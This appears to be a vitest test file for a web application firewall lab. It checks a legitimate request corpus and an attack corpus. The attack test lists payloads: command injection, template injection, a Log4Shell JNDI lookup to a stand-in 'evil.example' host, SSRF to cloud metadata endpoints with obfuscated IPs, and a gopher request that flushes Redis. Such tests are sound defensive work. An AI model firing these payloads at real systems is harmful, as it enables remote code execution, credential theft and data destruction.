/**
 * The WAF corpora (issue 11; EXG_WAF_1) are well formed, and the legitimate one is legitimate for
 * the API contract itself: every request it generates conforms to REFERENCE_API_CONTRACT, so a
 * refusal by the real WAF (modules/lab/waf.int.test.ts) is a false positive, never a bad test.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { type ApiRoute, jsonBodyProblems, REFERENCE_API_CONTRACT } from '../../../model/apiContract.ts';
import { MAX_DOCUMENT_BYTES } from '../../../model/documents.ts';
import { VP_SIGNATURE_NAMES } from '../../../model/virtualPatches.ts';
import { type AttackEntry, DOCUMENT_SIZES, fillTemplate, type LegitVocabulary, legitRequests, prng, seededBytes } from './legit.ts';

const here = import.meta.dirname;
const vocab = parse(readFileSync(path.join(here, 'legit.yaml'), 'utf8')) as LegitVocabulary;
const attackFile = parse(readFileSync(path.join(here, 'attacks.yaml'), 'utf8')) as { attacks: AttackEntry[]; gaps: AttackEntry[] };
const create = REFERENCE_API_CONTRACT.routes.find((r) => r.id === 'documents.create') as ApiRoute;
const LOCATIONS = ['query', 'title', 'user-agent', 'referer', 'x-api-version', 'custom-header', 'cookie'];

describe('legitimate corpus', () => {
  const reqs = legitRequests(vocab, { seed: 11, generated: 300 });

  it('is large, and the same for the same seed', () => {
    expect(reqs.length).toBe(vocab.titles.length + 300 + vocab.fhir.length);
    expect(legitRequests(vocab, { seed: 11, generated: 300 })).toEqual(reqs);
    expect(legitRequests(vocab, { seed: 12, generated: 300 })).not.toEqual(reqs);
  });

  it('every request conforms to the reference API contract', () => {
    const bad = reqs
      .map((r) => ({ r, p: jsonBodyProblems(create, { title: r.title, patientId: r.patientId, category: r.category, contentBase64: 'aGVsbG8=' }) }))
      .filter((x) => x.p.length > 0)
      .map((x) => `${x.r.id}: ${x.p.join('; ')}`);
    expect(bad).toEqual([]);
  });

  it('covers the false positives of the independent suite and their neighbours', () => {
    const titles = reqs.map((r) => r.title).join('\n');
    for (const s of [
      "l'union des deux dossiers ; drop du doublon",
      '; date de fin : 12/06',
      '; select des antibiotiques',
      '; update du',
      '; delete de',
      '; insert d',
      "O'Neil",
      "N'Diaye",
      "d'Alembert",
      'Zoé',
      'Œdipe',
      'SpO2 98 %',
    ])
      expect(titles).toContain(s);
    expect(reqs.filter((r) => r.content.kind === 'fhir').map((r) => r.category)).toEqual(['Observation', 'DocumentReference', 'MedicationRequest', 'Patient']);
    expect(new Set(reqs.map((r) => r.headers['User-Agent'])).size).toBeGreaterThan(15);
  });

  it('templates fill every slot, and a slot without a list is an error', () => {
    expect(fillTemplate('[[date]] ; [[measure]]', vocab.slots, prng(1))).not.toContain('[[');
    expect(() => fillTemplate('[[nope]]', vocab.slots, prng(1))).toThrow(/slot \[\[nope\]\]/);
  });

  it('documents: sizes from 1 KiB to the maximum; seeded bytes are deterministic and cover every byte value', () => {
    expect(Math.min(...DOCUMENT_SIZES)).toBe(1024);
    expect(Math.max(...DOCUMENT_SIZES)).toBe(MAX_DOCUMENT_BYTES);
    const a = seededBytes(4099, 7);
    expect(Buffer.from(a).equals(Buffer.from(seededBytes(4099, 7)))).toBe(true);
    expect(new Set(a).size).toBe(256);
    expect(Buffer.from(a).toString('base64')).toMatch(/\+.*\/|\/.*\+/);
  });
});

describe('attack corpus', () => {
  const all = [...attackFile.attacks, ...attackFile.gaps];

  it('entries are well formed, with unique ids; patches name shipped signatures; locations are known', () => {
    expect(attackFile.attacks.length).toBeGreaterThanOrEqual(60);
    expect(new Set(all.map((a) => a.id)).size).toBe(all.length);
    for (const a of all) {
      expect(a.id).toMatch(/^[a-z0-9]+(?:-[a-z0-9]+)*$/);
      expect(a.payload.length).toBeGreaterThan(0);
      if (a.patch !== undefined) expect(VP_SIGNATURE_NAMES as readonly string[]).toContain(a.patch);
      for (const l of a.in ?? []) expect(LOCATIONS).toContain(l);
    }
    for (const family of ['sqli', 'xss', 'rce', 'lfi', 'ssti', 'php', 'java', 'log4shell', 'nodejs', 'ssrf'])
      expect(
        attackFile.attacks.some((a) => a.family === family),
        family,
      ).toBe(true);
  });

  it('has the classics the independent suite found accepted', () => {
    const payloads = attackFile.attacks.map((a) => a.payload);
    for (const p of [
      '| id',
      '`id`',
      '$(id)',
      '{{7*7}}',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: Log4j and template syntax, not a JS template
      '${jndi:ldap://evil.example/a}',
      'http://2852039166/latest/meta-data/',
      'http://0xA9FEA9FE/latest/meta-data/',
      'gopher://127.0.0.1:6379/_FLUSHALL',
    ])
      expect(payloads).toContain(p);
    expect(payloads.some((p) => p.includes('metadata.google.internal'))).toBe(true);
    expect(payloads.some((p) => p.includes('::ffff:169.254.169.254'))).toBe(true);
  });
});
